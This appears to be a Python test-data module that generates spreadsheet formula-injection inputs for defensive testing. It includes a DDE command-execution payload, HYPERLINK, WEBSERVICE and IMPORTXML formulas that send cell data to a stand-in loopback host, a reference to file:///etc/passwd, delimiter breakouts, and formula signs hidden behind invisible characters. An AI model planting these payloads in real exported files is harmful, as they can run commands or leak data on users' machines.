"""Texts that a spreadsheet might run, follow or rewrite; made here, from what such texts are."""

from __future__ import annotations

from itertools import product

_SIGNS = ["=", "+", "-", "@", "|", "%", "＝", "＋", "－", "＠", "﹦", "−"]
_BEFORE = ["", "'", " ", "\t", "\n", "\r", "\x00", "\x0b", "\x1b", "\x7f", "\xa0", "\ufeff"]
_BEFORE += ["\u200b", "\u200e", "\u202e", "\u2028", "\u3000", "\u00ad", "\ud800", "''"]
_BODIES = [
    "1+1",
    'HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://127.0.0.1:9/")',
    'IMPORTXML("http://127.0.0.1:9/","//a")',
    'CELL("filename")',
    "SUM(A1:A9)",
    "'file:///etc/passwd'#$passwd.A1",
]
_BREAKOUTS = [
    '";=1+1;"',
    '",=1+1,"',
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1",
    '"=1+1"',
    '""=1+1',
    "a\x00=1+1",
]
REWRITTEN = [
    *("0012", "1E5", "SEPT2", "1/2", "2026-01-02", "$5", "5 €", "25%", "(5)", "TRUE", "12:30"),
    *("+49 30 901820", "1,234.50", "3 Jan 2026", "'0012", "1234567890123456789"),
]
_OTHERS = [
    *("#N/A", "#REF!", "#VALUE!", "{=1+1}", "http://127.0.0.1:9/", "mailto:me@example.org"),
    *("file:///etc/passwd", "\\\\host\\share", "DDE", "_x000D_", "a_x0041_b", "退款", "🙂" * 40),
]

FORMULAS = [
    *(before + sign + "1+1" for before, sign in product(_BEFORE, _SIGNS)),
    *(sign + body for sign, body in product("=+-@", _BODIES)),
]
ATTACKS = [*FORMULAS, *_BREAKOUTS, *REWRITTEN, *_OTHERS]
